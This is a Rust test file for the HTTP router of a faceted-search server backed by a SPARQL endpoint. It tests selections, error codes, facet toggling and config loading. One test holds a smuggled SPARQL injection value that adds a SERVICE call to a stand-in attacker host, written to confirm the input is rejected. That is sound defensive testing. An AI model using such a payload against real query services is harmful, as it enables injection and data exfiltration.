//! Router tests against a canned endpoint.

use std::{
  future::Future,
  sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
  },
};

use axum::{
  Router,
  body::Body,
  http::{Request, StatusCode},
};
use facetry_core::{
  definition::{FacetDefinition, FacetKind},
  endpoint::{Binding, Endpoint, Row},
  selection::Seed,
  value::NO_SELECTION_TEXT,
};
use facetry_engine::{FacetHandler, HandlerOptions};
use serde_json::{Value, json};
use tower::ServiceExt;

use crate::{ServerConfig, router};

#[derive(Debug, thiserror::Error)]
#[error("connection refused")]
struct Refused;

#[derive(Default)]
struct StaticEndpoint {
  rows:  Vec<Row>,
  fail:  bool,
  calls: AtomicUsize,
}

impl Endpoint for StaticEndpoint {
  type Error = Refused;

  fn execute<'a>(
    &'a self,
    _query: &'a str,
  ) -> impl Future<Output = Result<Vec<Row>, Refused>> + Send + 'a {
    async move {
      self.calls.fetch_add(1, Ordering::SeqCst);
      if self.fail {
        return Err(Refused);
      }
      Ok(self.rows.clone())
    }
  }
}

fn row(id: &str, value: Option<&str>, text: &str, count: u64) -> Row {
  let mut row = Row::new();
  row.insert("id".into(), Binding::uri(id));
  row.insert("facet_text".into(), Binding::literal(text));
  row.insert(
    "cnt".into(),
    Binding::typed(count.to_string(), "http://www.w3.org/2001/XMLSchema#integer"),
  );
  if let Some(value) = value {
    row.insert("value".into(), Binding::uri(value));
  }
  row
}

fn make_handler(fail: bool) -> Arc<FacetHandler<StaticEndpoint>> {
  let endpoint = StaticEndpoint {
    rows: vec![
      row("genre", None, NO_SELECTION_TEXT, 10),
      row("genre", Some("rock"), "Rock", 6),
      row("genre", Some("jazz"), "Jazz", 4),
    ],
    fail,
    calls: AtomicUsize::new(0),
  };
  let handler = FacetHandler::new(
    vec![
      FacetDefinition::basic("<genre>"),
      FacetDefinition::basic("<author>"),
      FacetDefinition::with_kind("<title>", FacetKind::Text),
    ],
    HandlerOptions::default(),
    endpoint,
  )
  .unwrap();
  Arc::new(handler)
}

async fn call(app: &Router, method: &str, uri: &str, body: Option<Value>) -> (StatusCode, Value) {
  let mut builder = Request::builder().method(method).uri(uri);
  let body = match body {
    Some(json) => {
      builder = builder.header("content-type", "application/json");
      Body::from(json.to_string())
    }
    None => Body::empty(),
  };
  let resp = app
    .clone()
    .oneshot(builder.body(body).unwrap())
    .await
    .unwrap();
  let status = resp.status();
  let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
    .await
    .unwrap();
  let json = if bytes.is_empty() {
    Value::Null
  } else {
    serde_json::from_slice(&bytes).unwrap()
  };
  (status, json)
}

fn texts(facets: &Value, id: &str) -> Vec<String> {
  facets[id]["state"]["values"]
    .as_array()
    .map(|values| {
      values
        .iter()
        .filter_map(|v| v["text"].as_str().map(str::to_owned))
        .collect()
    })
    .unwrap_or_default()
}

// ─── Reads and updates ───────────────────────────────────────────────────────

#[tokio::test]
async fn update_then_list() {
  let app = router(make_handler(false));

  let (status, before) = call(&app, "GET", "/facets", None).await;
  assert_eq!(status, StatusCode::OK);
  assert!(before["<genre>"]["state"].is_null());

  let (status, updated) = call(&app, "POST", "/facets/update", Some(json!({}))).await;
  assert_eq!(status, StatusCode::OK);
  assert_eq!(texts(&updated, "<genre>"), vec![NO_SELECTION_TEXT, "Rock", "Jazz"]);
  assert_eq!(texts(&updated, "<title>"), vec![NO_SELECTION_TEXT]);

  let (_, listed) = call(&app, "GET", "/facets", None).await;
  assert_eq!(listed, updated);
}

#[tokio::test]
async fn values_are_narrowed_by_label() {
  let app = router(make_handler(false));
  call(&app, "POST", "/facets/update", Some(json!({}))).await;

  let (status, values) = call(&app, "GET", "/facets/values?id=%3Cgenre%3E&text=ro", None).await;
  assert_eq!(status, StatusCode::OK);
  let texts: Vec<&str> = values
    .as_array()
    .unwrap()
    .iter()
    .filter_map(|v| v["text"].as_str())
    .collect();
  assert_eq!(texts, vec![NO_SELECTION_TEXT, "Rock"]);

  let (status, _) = call(&app, "GET", "/facets/values?id=%3Cnope%3E", None).await;
  assert_eq!(status, StatusCode::NOT_FOUND);
}

// ─── Changes ─────────────────────────────────────────────────────────────────

#[tokio::test]
async fn change_stores_selection_and_requeries() {
  let handler = make_handler(false);
  let app = router(handler.clone());

  let body = json!({
    "id": "<genre>",
    "selection": { "kind": "one", "value": { "value": "<rock>", "text": "Rock", "count": 6 } },
  });
  let (status, _) = call(&app, "POST", "/facets/change", Some(body.clone())).await;
  assert_eq!(status, StatusCode::OK);
  assert_eq!(handler.endpoint().calls.load(Ordering::SeqCst), 1);
  assert_eq!(handler.selections().await["<genre>"].chosen(), vec!["<rock>"]);

  // Unchanged: no second query.
  call(&app, "POST", "/facets/change", Some(body)).await;
  assert_eq!(handler.endpoint().calls.load(Ordering::SeqCst), 1);

  // null clears.
  let (status, _) = call(
    &app,
    "POST",
    "/facets/change",
    Some(json!({ "id": "<genre>", "selection": null })),
  )
  .await;
  assert_eq!(status, StatusCode::OK);
  assert_eq!(handler.endpoint().calls.load(Ordering::SeqCst), 2);
  assert!(!handler.selections().await.contains_key("<genre>"));
}

#[tokio::test]
async fn unknown_facet_is_404() {
  let app = router(make_handler(false));
  let (status, body) = call(
    &app,
    "POST",
    "/facets/change",
    Some(json!({ "id": "<nope>", "selection": null })),
  )
  .await;
  assert_eq!(status, StatusCode::NOT_FOUND);
  assert!(body["error"].as_str().unwrap().contains("<nope>"));

  let (status, _) = call(&app, "POST", "/facets/enable", Some(json!({ "id": "<nope>" }))).await;
  assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn mismatched_selection_is_400() {
  let app = router(make_handler(false));
  let (status, body) = call(
    &app,
    "POST",
    "/facets/change",
    Some(json!({ "id": "<genre>", "selection": { "kind": "text", "value": "rock" } })),
  )
  .await;
  assert_eq!(status, StatusCode::BAD_REQUEST);
  assert!(body["error"].is_string());
}

#[tokio::test]
async fn query_text_as_a_value_is_400() {
  let handler = make_handler(false);
  let app = router(handler.clone());
  let value = "<x> . } SERVICE <http://attacker.example/sparql> { ?a ?b ?c } {";
  let (status, body) = call(
    &app,
    "POST",
    "/facets/change",
    Some(json!({
      "id": "<genre>",
      "selection": { "kind": "one", "value": { "value": value, "text": "X", "count": 1 } },
    })),
  )
  .await;
  assert_eq!(status, StatusCode::BAD_REQUEST);
  assert!(body["error"].as_str().unwrap().contains("not an RDF term"));
  assert_eq!(handler.endpoint().calls.load(Ordering::SeqCst), 0);
  assert!(handler.selections().await.is_empty());
}

#[tokio::test]
async fn endpoint_failure_is_502() {
  let app = router(make_handler(true));
  let (status, body) = call(&app, "POST", "/facets/update", Some(json!({}))).await;
  assert_eq!(status, StatusCode::BAD_GATEWAY);
  assert!(body["error"].as_str().unwrap().contains("connection refused"));
}

// ─── Facet set ───────────────────────────────────────────────────────────────

#[tokio::test]
async fn disable_and_enable_round_trip() {
  let handler = make_handler(false);
  let app = router(handler.clone());

  let (status, facets) =
    call(&app, "POST", "/facets/disable", Some(json!({ "id": "<author>" }))).await;
  assert_eq!(status, StatusCode::OK);
  assert!(facets.get("<author>").is_none());

  let (_, disabled) = call(&app, "GET", "/facets/disabled", None).await;
  assert_eq!(disabled[0]["id"], "<author>");
  assert_eq!(disabled[0]["type"], "basic");

  let (status, facets) =
    call(&app, "POST", "/facets/enable", Some(json!({ "id": "<author>" }))).await;
  assert_eq!(status, StatusCode::OK);
  assert!(facets.get("<author>").is_some());
  assert_eq!(handler.endpoint().calls.load(Ordering::SeqCst), 2);
}

// ─── Configuration ───────────────────────────────────────────────────────────

const CONFIG: &str = r#"
host = "127.0.0.1"
port = 8080

[search]
endpoint_url = "http://localhost:3030/books/sparql"
rdf_class = "<http://example.org/book>"

[search.initial_values]
"<http://example.org/genre>" = "<http://example.org/rock>"

[[facets]]
id = "<http://example.org/genre>"
name = "Genre"
type = "basic"
enabled = true

[[facets]]
id = "<http://example.org/period>"
name = "Period"
type = "timespan"
start = "<http://example.org/start>"
end = "<http://example.org/end>"
"#;

#[test]
fn server_config_reads_toml() {
  let cfg: ServerConfig = config::Config::builder()
    .add_source(config::File::from_str(CONFIG, config::FileFormat::Toml))
    .build()
    .unwrap()
    .try_deserialize()
    .unwrap();

  assert_eq!(cfg.port, 8080);
  assert_eq!(cfg.search.preferred_lang, "en");
  assert_eq!(cfg.search.timeout_secs, 30);
  assert_eq!(
    cfg.search.initial_values["<http://example.org/genre>"],
    Seed::One("<http://example.org/rock>".into())
  );
  assert_eq!(cfg.facets.len(), 2);
  assert!(cfg.facets[0].enabled);
  assert!(matches!(cfg.facets[1].kind, FacetKind::Timespan { is_resource: false, .. }));

  let options = cfg.search.handler_options();
  assert_eq!(options.query.rdf_class.as_deref(), Some("<http://example.org/book>"));
  assert_eq!(options.initial_values.len(), 1);
}
